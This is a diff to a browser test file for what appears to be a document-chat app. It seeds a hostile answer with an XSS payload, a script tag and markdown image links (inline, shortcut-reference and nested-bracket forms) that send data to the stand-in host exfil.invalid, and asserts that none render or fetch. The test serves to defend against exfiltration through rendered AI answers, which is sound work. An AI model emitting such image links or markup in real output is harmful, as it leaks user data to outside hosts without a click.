@@ -53,9 +53,16 @@ The gadget warranty lasts seven years from the day of purchase.
 ![chart](http://exfil.invalid/collect?data=SECRET-1234)
 """
 ZEPHYR_DOC = "# Zephyr\n\nThe Zephyr project code name is HERON-42, chosen in March.\n"
+EXFIL_HOST = "exfil.invalid"
+# CommonMark image forms a regular expression misses (issue 13, item 6): a shortcut reference
+# whose definition sits lines away, and brackets nested in the alt text. Each rendered as an
+# <img> that Chromium fetched with no click.
 HOSTILE_ANSWER = (
     "Seeded: <img src=x onerror=\"window.__pwned='history'\"> "
-    "![x](http://exfil.invalid/h?d=1) <script>window.__pwned='history-script'</script>"
+    f"![x](http://{EXFIL_HOST}/h?d=1) <script>window.__pwned='history-script'</script>\n\n"
+    "Shortcut reference: ![s1]\n\n"
+    f"Nested brackets: ![a [b] c](http://{EXFIL_HOST}/nested?d=3)\n\n"
+    f"[s1]: http://{EXFIL_HOST}/shortcut?d=2\n"
 )
 
 pytestmark = [
@@ -325,6 +332,8 @@ def test_a_user_logs_in_uploads_asks_reads_a_source_and_rates_the_answer(
     alice.page.wait_for_timeout(1000)
     alice.shot("08-hostile-answer")
     assert alice.pwned() is None, f"hostile markup ran: {alice.pwned()}"
+    assert alice.page.locator(f"img[src*='{EXFIL_HOST}']").count() == 0
+    assert [u for u in alice.requests if urlparse(u).hostname == EXFIL_HOST] == []
     assert alice.page.locator("#chatbot img, #passage img").count() == 0
     assert alice.outside_requests() == [], alice.outside_requests()
 
